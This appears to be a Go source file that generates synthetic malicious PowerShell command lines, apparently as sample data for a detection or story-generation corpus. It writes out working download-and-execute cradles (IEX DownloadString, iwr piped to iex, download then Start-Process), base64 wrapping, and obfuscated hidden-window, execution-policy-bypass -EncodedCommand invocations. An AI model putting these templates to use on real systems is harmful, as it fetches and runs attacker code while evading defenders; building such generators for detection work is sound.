package story

import (
	"encoding/base64"
	"encoding/binary"
	"strings"
	"unicode/utf16"
)

// utf16Base64 encodes a script as PowerShell's -EncodedCommand wants it: base64
// of UTF-16, little end first.
func utf16Base64(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// downloadScript writes a script that fetches a URL and runs what it gets.
func downloadScript(d dice, url string) string {
	return draw(d, []string{
		"IEX (New-Object Net.WebClient).DownloadString('" + url + "')",
		"$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('" + url + "')",
		"iwr -UseBasicParsing '" + url + "' | iex",
		"$f=\"$env:TEMP\\" + d.text(6, letters) + ".exe\";(New-Object Net.WebClient).DownloadFile('" + url + "',$f);Start-Process $f",
		"$r=[Net.HttpWebRequest]::Create(\"" + url + "\");$s=$r.GetResponse().GetResponseStream();" +
			"IEX (New-Object IO.StreamReader($s)).ReadToEnd()",
	})
}

// wrapped hides a script one layer deeper in base64.
func wrapped(d dice, script string) string {
	name := "$" + d.text(3, letters)
	if d.oneIn(2) {
		return name + "='" + base64.StdEncoding.EncodeToString([]byte(script)) + "';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(" + name + ")))"
	}
	return name + "='" + utf16Base64(script) + "';IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(" + name + ")))"
}

// encodedCommand writes the command line of a script, as intruders do: options
// shortened and in any case, which PowerShell takes all the same.
func encodedCommand(d dice, script string) string {
	words := []string{draw(d, []string{"powershell.exe", "powershell", "PowerShell.exe", powershell})}
	options := []string{
		draw(d, []string{"-nop", "-NoP", "-noprofile", "-NoProfile"}),
		draw(d, []string{"-w hidden", "-W Hidden", "-WindowStyle Hidden", "-w 1"}),
	}
	for _, more := range []string{"-noni", "-sta", "-ep bypass"} {
		if d.oneIn(3) {
			options = append(options, more)
		}
	}
	shuffle(d, options)
	enc := draw(d, []string{"-enc", "-e", "-ec", "-en", "-encod", "-EncodedCommand"})
	if d.oneIn(2) {
		enc = d.anyCase(enc)
	}
	words = append(append(words, options...), enc, utf16Base64(script))
	return strings.Join(words, " ")
}
